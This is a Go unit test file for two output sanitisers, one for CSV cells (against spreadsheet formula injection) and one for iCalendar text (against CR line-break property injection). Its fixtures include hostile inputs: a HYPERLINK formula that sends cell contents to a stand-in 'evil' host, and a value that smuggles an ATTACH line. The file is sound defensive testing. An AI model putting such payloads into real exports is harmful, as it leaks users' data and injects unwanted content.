package web

import "testing"

// TestCSVCell: text a spreadsheet would run as a formula gets a leading apostrophe (OWASP's
// advice for CSV injection); numbers, negative ones included, stay numbers.
func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil/"&A1,"x")`, `'=HYPERLINK("https://evil/"&A1,"x")`},
		{"+46 70 123", "'+46 70 123"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-4.39", "-4.39"},
		{"+12", "+12"},
		{"-1e-05", "-1e-05"},
		{"-Inf", "'-Inf"},
		{"NaN", "NaN"},
		{"", ""},
		{"Bäckby torg", "Bäckby torg"},
		{"a=b", "a=b"},
	} {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestICSText: RFC 5545 TEXT has no control characters but HTAB; a bare CR is a line break
// like LF, so a name cannot start a property line of its own in a client that splits on CR.
func TestICSText(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"a\rATTACH:https://evil/x", `a\nATTACH:https://evil/x`},
		{"a\r\nb\nc", `a\nb\nc`},
		{"a;b,c\\d", `a\;b\,c\\d`},
		{"a\x00b\x1bc\x7fd\te", "abcd\te"},
	} {
		if got := icsText(tt.in); got != tt.want {
			t.Errorf("icsText(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
